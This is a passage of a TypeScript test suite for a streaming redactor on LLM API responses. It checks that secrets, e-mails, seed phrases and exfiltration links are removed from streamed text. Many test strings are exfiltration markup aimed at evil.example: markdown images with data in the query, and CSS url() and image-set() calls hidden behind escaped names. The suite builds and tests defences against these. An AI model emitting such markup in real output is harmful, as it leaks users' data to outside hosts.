    ['A ![a\\](b)](https://evil.example/p.png?q=S) and \\[x](https://evil.example/) end', 'A [EXFIL_LINK] and \\[x[EXFIL_LINK] end'],
    ['A ![[a]](https://evil.example/p.png?q=S) ![`]`](https://evil.example/q) ![<b title="]">x</b>](https://evil.example/r) end', 'A ![[a][EXFIL_LINK] ![`]`[EXFIL_LINK] ![<b title="]">x</b>[EXFIL_LINK] end'],
  ];
  for (const [text, expected] of cases) {
    assert.equal(redactWhole(redactorFor(exfil), text), expected, text);
    assertStreamsAsWhole(exfil, text, expected);
  }
});

test('property: texts made of escaped CSS names, image-set() and SVG use pieces stream as they redact whole (exfil_links alone)', () => {
  const PIECES = [
    'u', 'U', 'r', 'l', 'L(', '(', ')', '\\', '\\72', '\\72 ', '\\7', '2', 'l(', '\\75 ', 'rl(', '\\6c', '\\6C\r\n', ' ', '\n', '\r',
    'image-set(', 'image-', 'set(', '\\73 ', 'et(', '-webkit-', '\\69', 'mage-set(', 'IMAGE-SET(', ' 1x', ', ', 'type(', '/*', '*/', ':', ';',
    '@', '@\\69', 'mport', 'import', '"', "'", 'https://evil.example/x', '//evil.example/y?d=1', 'https://docs.example.com/z', 'a.png', 'data:',
    '&#92;', '&#9', '2;', '&bsol;', '&quot;', '<div style="', '">', '<style>', '</style>', '<svg><use href="', '<use xlink:href="', '#i', '"/>', 'x', 'a',
  ];
  assertPiecesStreamAsWhole(PIECES);
});

test('an image-set( whose arguments run past the hold-back, or a url( with an escaped name, is never released fetchable', () => {
  for (const n of [3000, 20_000]) {
    // Whitespace, a comment or a first option between the opener and the URL: the opener is cut before
    // the URL arrives, and what follows goes out as plain text outside any image-set( or url(. The cut
    // takes the whole name: "-webkit-image-set(" cut after "-webkit-" would leave "image-set(", and
    // "\u\72l(" cut after '\' would leave "u\72l(" (url().
    for (const [markup, opener, left] of [
      [`<div style="background-image:image-set(${' '.repeat(n)}'https://evil.example/x' 1x)">x</div>`, 'image-set(', 'set('],
      [`<style>a{background:-webkit-image-set(/* ${'c'.repeat(n)} */ "https://evil.example/x" 1x)}</style>`, '-webkit-image-set(', 'set('],
      [`<style>a{background:\\69mage-set("a.png" 1x,${' '.repeat(n)}"https://evil.example/x" 2x)}</style>`, '\\69mage-set(', 'set('],
      [`<div style="background:\\u\\72l(${' '.repeat(n)}https://evil.example/x)">x</div>`, '\\u\\72l(', '72l('],
    ] as const) {
      const text = `Intro words here. ${markup} and more words after.`;
      const deltas = eventsAfter(text, opener);
      for (const detectors of [DEFAULT_DETECTORS, DEFAULT_DETECTORS.slice(2)]) {
        const got = stream(detectors, deltas).content;
        assert.ok(!got.includes(left), got.slice(0, 120));
        const plan = holdPlan(detectors);
        if (n < plan.maxMatchLength) {
          // Held whole: as in the whole text.
          assert.equal(got, redactWhole(redactorFor(detectors), text));
          assert.ok(!got.includes('evil.example'), got.slice(0, 120));
        } else {
          const lags = lagPerEvent(detectors, deltas);
          assert.ok(text.length - lags[lags.length - 1] >= n - 2 * plan.maxMatchLength, 'the stream stays within its hold-back');
        }
      }
    }
  }
});

test('hold points: escaped names, image-set( and SVG use still being written', () => {
  const exfil = holdPlan([buildDetector('exfil_links', 'e', {}, BUILD)]);
  const at = (w: string, held: string): void => assert.equal(exfil.hold(w), w.length - held.length, JSON.stringify(w));
  at('a {background:u\\7', 'u\\7');
  at('a {background:u\\72', 'u\\72'); // a third digit, or the whitespace that ends it, may follow
  at('a {background:u\\72l', 'u\\72l');
  at('a {background:\\75 r\\6c ', '\\75 r\\6c ');
  at('a {background:u\\', 'u\\');
  at('a {background:u&#92;7', 'u&#92;7');
  at('a {background:u&#9', 'u&#9'); // the reference itself is still open
  at('a {background:u\\72l(https://evil.example/x', 'u\\72l(https://evil.example/x');
  at('a {background:image-se', 'image-se');
  at('a {background:-webkit-\\69', '-webkit-\\69');
  at('a {background:image-set("a.png" 1x, ', 'image-set("a.png" 1x, ');
  at('a {background:image-set(/* note', 'image-set(/* note');
  at('a b @\\6', '@\\6');
  at('x <us', '<us');
  // Decided: a name that no longer can be one, an image-set( closed or ended by what CSS does not read in it.
  at('a {background:u\\73', '');
  at('a {background:u\\72l (', '');
  at('a {background:image-set("a.png" 1x) and more', '');
  at('the image-set( function: takes strings and more', '');
  at('x <user and more', '');
});

test('the fixed hold-back mode (no holdFrom) is unchanged: the same output, far more lag', () => {
  const text = prose(1500, 4) + ' mail ops.team@example.net now ' + prose(500, 9);
  const deltas = text.split(/(?<= )/);
  const a = stream(DEFAULT_DETECTORS, deltas, [], { hold: false }).content;
  const b = stream(DEFAULT_DETECTORS, deltas).content;
  assert.equal(a, b);
  assert.ok(a.includes('[EMAIL]') && !a.includes('ops.team@example.net'));
});

test('placeholders of the exchange split across events are restored whole (placeholder hold)', async () => {
  const { ExchangeRedactor } = await import('../../src/pipeline/redact.ts');
  const { MemoryVault } = await import('../../src/redaction/index.ts');
  const ex = new ExchangeRedactor(Buffer.alloc(32, 1), new MemoryVault(), 'scope');
  const req = 'mail ann@corp.com and bo@corp.com';
  await ex.spans(req, [
    { start: 5, end: 17, type: 'EMAIL', style: { kind: 'placeholder' } },
    { start: 22, end: 33, type: 'EMAIL', style: { kind: 'placeholder' } },
  ]);
  const longest = ex.placeholderHoldBack();
  assert.ok(longest >= '<EMAIL_1>'.length);
  // Exfil links alone: its own hold does not cover a cut "<EMAIL_" (the secrets or PII holds would).
  const lean = [buildDetector('exfil_links', 'exfil', {}, BUILD)];
  const plan = holdPlan(lean);
  const base = redactorFor(lean);
  const redact: ChannelRedactor = (t, c) => {
    const r = base(t, c);
    return { edits: ex.restoreEdits(t, r.edits), findings: r.findings };
  };
  const text = `${prose(300, 3)} Sent to <EMAIL_1>, cc <EMAIL_2>. ${prose(200, 8)} again <EMAIL_2>`;
  const expected = redactWhole(redact, text);
  assert.ok(expected.includes('ann@corp.com') && expected.includes('bo@corp.com') && !expected.includes('<EMAIL_'));
  for (const size of [1, 2, 5]) {
    const deltas: string[] = [];
    for (let i = 0; i < text.length; i += size) deltas.push(text.slice(i, i + size));
    const t = createStreamTransformer({
      format: 'openai.chat', holdBack: Math.max(plan.maxMatchLength, longest), maxEventBytes: 1 << 20, onBlock: 'error_event', redact,
      holdFrom: (w) => Math.min(plan.hold(w), placeholderHold(w, longest)), holdLag: plan.lag,
    });
    const out = Buffer.concat([t.push(sse(deltas)).bytes, t.end().bytes]);
    assert.equal(clientView('openai.chat', out).channels.get('choice:0/content'), expected, `events of ${size}`);
  }
});

test('every SSE format with a hold strategy: whole-text equality per channel, chunk invariance, .done agreement', async () => {
  const { fixture, redactAll, rawEntities, testRedactor } = await import('./helpers.ts');
  const FORMATS: [string, 'openai.chat' | 'openai.completions' | 'openai.responses' | 'anthropic.messages'][] = [
    ['openai-chat-content.sse', 'openai.chat'],
    ['openai-chat-multichoice.sse', 'openai.chat'],
    ['openai-chat-tools.sse', 'openai.chat'],
    ['openai-completions.sse', 'openai.completions'],
    ['openai-responses.sse', 'openai.responses'],
    ['anthropic-messages.sse', 'anthropic.messages'],
  ];
  // The test patterns (e-mails, sk-test keys, FORBIDDEN) hold no whitespace: a changeable match lies in
  // the trailing whitespace-free run, so that run is a sound hold for them.
  const run = (body: Buffer, cuts: readonly number[], format: (typeof FORMATS)[number][1], scanStep: number) => {
    const t = createStreamTransformer({
      format, holdBack: 64, maxEventBytes: 1 << 16, onBlock: 'error_event', redact: testRedactor, scanStep,
      holdFrom: (w) => gapBoundary(w, w.length, 0),
    });
    const outs: Buffer[] = [];
    let prev = 0;
    for (const c of [...new Set(cuts)].sort((a, b) => a - b).filter((c) => c > 0 && c < body.length)) {
      outs.push(t.push(body.subarray(prev, c)).bytes);
      prev = c;
    }
    outs.push(t.push(body.subarray(prev)).bytes, t.end().bytes);
    return Buffer.concat(outs);
  };
  for (const [file, format] of FORMATS) {
    const body = fixture(`streams/${file}`);
    const upstream = clientView(format, body).channels;
    for (const step of [0, 4, 32]) {
      const whole = run(body, [], format, step);
      const view = clientView(format, whole);
      for (const [ch, text] of upstream) {
        assert.equal(view.channels.get(ch), redactAll(text), `${file} ${ch} step ${step}`);
        for (const ent of rawEntities(text)) assert.ok(!whole.toString().includes(ent), `${file}: ${ent} leaked`);
      }
      for (const [ch, text] of view.done) assert.equal(text, view.channels.get(ch), `${file} done ${ch}`);
      fc.assert(
        fc.property(fc.array(fc.nat(body.length), { maxLength: 30 }), (cuts) => {
          assert.ok(run(body, cuts, format, step).equals(whole), `${file} step ${step}`);
        }),
        { numRuns: 25 },
      );
    }
  }
});

test('re-scan amplification: the window is not re-scanned per event, also while a finding straddles the hold point', () => {
  const key = pem(Array.from({ length: 25 }, () => 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2'));
  const text = `${prose(400, 2)} the key:\n${key}\nthanks. ${prose(300, 5)} Call Dr. Anna Schmidt at +1 415 555 0134 tomorrow ${prose(300, 6)}`;
  const plan = holdPlan(DEFAULT_DETECTORS);
  const base = redactorFor(DEFAULT_DETECTORS);
  let calls = 0;
  let chars = 0;
  const t = createStreamTransformer({
    format: 'openai.chat', holdBack: plan.maxMatchLength, maxEventBytes: 1 << 20, onBlock: 'error_event',
    holdFrom: (w) => plan.hold(w), holdLag: plan.lag,
    redact: (w, c) => {
      calls++;
      chars += w.length;
      return base(w, c);
    },
  });
  const deltas = [...text]; // one character per event
  const out = Buffer.concat([t.push(sse(deltas)).bytes, t.end().bytes]);
  assert.equal(clientView('openai.chat', out).channels.get('choice:0/content'), redactWhole(base, text));
  // About one scan per scan step (32) of progress, not one per event (2,700 events); each scan reads
  // the undecided window once: a few times the text in all, where a per-event re-scan read ~100x.
  assert.ok(calls < text.length / 32 + 20, `redactor calls ${calls} for ${deltas.length} events`);
  assert.ok(chars / text.length < 10, `amplification ${(chars / text.length).toFixed(1)}`);
});

test('property: hold points are within the window for any text (lone surrogates, markup, PEM pieces) and never below the fixed floor', () => {
  const plans = [
    holdPlan(DEFAULT_DETECTORS),
    holdPlan([buildDetector('canary', 'c', { tokens: ['CANARY-0001'] }, BUILD), buildDetector('exfil_links', 'e', { bare_urls: true }, BUILD)]),
  ];
  const piece = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.constantFrom('[', ']', '](', '![', '<a href="', '</a', '<img ', '>', '-----BEGIN RSA PRIVATE KEY-----', '-----END', '\\n', '\n', ' ', '\udb40\udc41', '\ud800', 'ＡＰＩ', 'eyJ', '.', '   [x]: http://e'),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (parts) => {
      const w = parts.join('');
      for (const plan of plans) {
        const h = plan.hold(w);
        assert.ok(Number.isInteger(h) && h >= 0 && h <= w.length, `hold ${h} of ${w.length}`);
        assert.ok(h >= w.length - plan.maxMatchLength);
        assert.ok(h <= Math.max(0, w.length - plan.lag) || plan.lag > w.length, 'lag bound');
      }
    }),
    { numRuns: 400 },
  );
});

test('the redactor is told whether its window starts inside a line (ChannelInfo.midLine), also after the window is trimmed', () => {
  const text = Array.from({ length: 60 }, (_, i) => `Line ${i} ${'of some length '.repeat(1 + (i % 9))}`).join('\n');
  const seen = { mid: 0, start: 0 };
  const redact: ChannelRedactor = (window, info) => {
    const at = info.offset ?? 0;
    assert.equal(text.slice(at, at + window.length), window);
    const truth = at > 0 && text[at - 1] !== '\n';
    assert.equal(info.midLine === true, truth, `window at ${at}`);
    if (truth) seen.mid++;
    else if (at > 0) seen.start++;
    return { edits: [] };
  };
  const t = createStreamTransformer({ format: 'openai.chat', holdBack: 40, maxEventBytes: 1 << 20, onBlock: 'error_event', redact, holdFrom: (w) => w.length - 40, holdLag: 40 });
  const body = sse(text.match(/.{1,7}/gsu)!);
  for (let at = 0; at < body.length; at += 50) t.push(body.subarray(at, at + 50));
  t.end();
  assert.ok(seen.mid > 10 && seen.start > 0, JSON.stringify(seen));
});

test('a recovery phrase and a quoted passphrase streamed word by word are redacted whole, no word released first', () => {
  // BIP-39 test vector 7f…7f (distinct words enough to be reported) and a 24-word phrase; a passphrase of six words.
  const seed12 = 'legal winner thank year wave sausage worth useful legal winner thank yellow';
  const seed24 = 'control issue stem license payment win dismiss family again';
  const phrase24 = `${seed24} ${'twelve'}`; // not a phrase: only the 12-word one and the numbered list below are
  const numbered = seed12.split(' ').map((w, i) => `${i + 1}. ${w}`).join('\n');
  const text = `${prose(200, 3)} Your backup words are ${seed12} and nothing else.\n${numbered}\nThe Wi-Fi password is "purple monkey dishwasher under the bridge 7" today. ${phrase24} ${prose(150, 4)}`;
  const redact = redactorFor(DEFAULT_DETECTORS);
  const expected = redactWhole(redact, text);
  assert.equal(expected.split('[CRYPTO_SEED_PHRASE]').length, 3, expected);
  assert.ok(expected.includes('[GENERIC_SECRET]'), expected);
  assertStreamsAsWhole(DEFAULT_DETECTORS, text, expected);
  // The secrets detector alone (a policy without PII) holds them by its own bound (hold.ts secretsTextHold).
  const secretsOnly = [DEFAULT_DETECTORS[0]];
  assertStreamsAsWhole(secretsOnly, text, redactWhole(redactorFor(secretsOnly), text));
});
